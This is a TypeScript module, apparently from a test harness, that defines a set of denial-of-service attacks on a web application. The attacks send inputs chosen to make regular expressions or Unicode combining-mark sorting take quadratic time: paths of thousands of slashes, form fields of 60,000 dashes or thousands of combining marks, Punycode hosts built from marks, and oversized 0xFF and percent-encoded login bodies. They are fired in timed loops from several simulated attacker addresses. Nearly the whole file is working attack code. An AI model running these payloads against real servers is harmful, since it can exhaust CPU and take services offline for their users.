import { setTimeout as wait } from "node:timers/promises";
import { validIdentity } from "../support/valid-forms";
import { attack, type Attack, type Target } from "./attack";
import { ask, attackerAddress, headOf, postOf, repeat, visitorOf } from "./wires";

/** Attacks with texts for which a regular expression would take quadratic time. */

const STRIKE_MS = 8_000;
const DETAILS_PATH = "/RealNameInfo?country=158";

/** A request of 12 kB at this interval amounts to 154 kB per second. */
const SLASHES_EVERY_MS = 78;

async function slashes(target: Target): Promise<void> {
  const request = headOf(target, `GET /a${"/".repeat(12_000)}a`, { Connection: "close" });
  const asked: Promise<unknown>[] = [];
  for (const untilMs = performance.now() + STRIKE_MS; performance.now() < untilMs;) {
    asked.push(ask(target, request, asked.length % 50));
    await wait(SLASHES_EVERY_MS);
  }
  await Promise.all(asked);
}

/** Two accounts post the identity form, each one request at a time. */
async function prepareDashes(target: Target) {
  const visitors = target.accounts.map((cookie, index) =>
    visitorOf(target, `ulan=en_US; ${cookie}`, attackerAddress(index + 1)),
  );
  const pages = await Promise.all(visitors.map((visitor) => visitor.open(DETAILS_PATH)));
  const certificateNumber = `A${"-".repeat(60_000)}A`;
  return async () => {
    await Promise.all(
      visitors.map((visitor, index) =>
        repeat({ atATime: 1, forMs: STRIKE_MS, times: 5 }, async () => {
          const page = pages[index];
          if (!page) return;
          const fields = validIdentity({ certificateNumber, numberCode: page.field("numberCode") });
          await visitor.submit(DETAILS_PATH, fields, page).catch((error: unknown) => error);
        }),
      ),
    );
  };
}

/** The maximum number of marks in a field; sorting them takes quadratic time. */
const MARKS = "\u0344\u0334".repeat(4_000 - 50);

/** Strangers post fields of marks that must be sorted, unencoded because four encoded ones would be too long. */
async function prepareMarks(target: Target) {
  const requests = await Promise.all(
    Array.from({ length: 4 }, async (_, index) => {
      const visitor = visitorOf(target, "ulan=en_US", attackerAddress(index + 1));
      const csrf = (await visitor.open("/LeavingMessage")).field("csrf") ?? "";
      const fields = { csrf, name: MARKS, email: MARKS, socialAccount: MARKS, message: MARKS };
      const body = Object.entries(fields).map((pair) => pair.join("="));
      return postOf(target, "/LeavingMessage", body.join("&"), { Cookie: String(visitor.jar) });
    }),
  );
  return async () => {
    await Promise.all(
      requests.map((request, index) =>
        repeat({ atATime: 2, forMs: STRIKE_MS, times: 40 }, () => ask(target, request, index + 1)),
      ),
    );
  };
}

/** A host in Punycode: 11,500 times U+0301, then as many U+0334, which must be sorted before them. */
const HOST_OF_MARKS = `xn--ls${"a".repeat(11_500)}56679c${"a".repeat(11_499)}`;

/** Strangers send hosts that consist of marks. */
async function nameHosts(target: Target): Promise<void> {
  const requests = [
    headOf(target, "GET /", { Host: HOST_OF_MARKS }),
    headOf(target, "GET /LeavingMessage", { Referer: `http://${HOST_OF_MARKS}/` }),
  ];
  await repeat({ atATime: 16, forMs: STRIKE_MS, times: 400 }, (number) =>
    ask(target, requests[number % requests.length] ?? "", number % 50),
  );
}

/** Makes an attack with posts that have no session or token. */
const toLogin = (name: string, sent: string, body: Buffer | string) =>
  attack("7", name, `200 × ${sent} to /Login`, {
    prepare: (target) => async () => {
      const request = postOf(target, "/Login", body);
      await repeat({ atATime: 3, forMs: STRIKE_MS, times: 200 }, (number) => ask(target, request, number % 50));
    },
  });

/**
 * Four fields that are all too long. The server reads the beginning of each, and removes half a character at its end.
 */
const CUT_FIELDS = Buffer.concat(
  [70_000, 50_000, 34_000, 18_000].flatMap((bytes, index) => [
    Buffer.from(`${index === 0 ? "" : "&"}a=`),
    Buffer.alloc(16_300, 0xff),
    Buffer.alloc(bytes - 16_300, "b"),
  ]),
);

export const EXPRESSIONS: readonly Attack[] = [
  attack("7", "path-slashes", "GET /a////…/a of 12 kB at 154 kB/s", {
    mustLogNoError: true,
    prepare: (target) => () => slashes(target),
  }),
  attack("7", "certificate-dashes", "10 × `certificateNumber` of 60,000 dashes to /RealNameInfo", {
    accounts: 2,
    prepare: prepareDashes,
  }),
  attack("13", "enquiry-marks", "4 strangers, each with 40 enquiries whose four texts are 8,000 combining marks", {
    prepare: prepareMarks,
  }),
  attack("13", "host-of-marks", "400 × Host or Referer of 23 kB that name a host of 23,000 combining marks", {
    prepare: (target) => () => nameHosts(target),
  }),
  toLogin("login-0xff", "170 kB of 0xFF and letters", CUT_FIELDS),
  toLogin("login-percent", "60 kB of `%ff` and of `+`", `a=${"%ff+".repeat(15_000)}`),
];
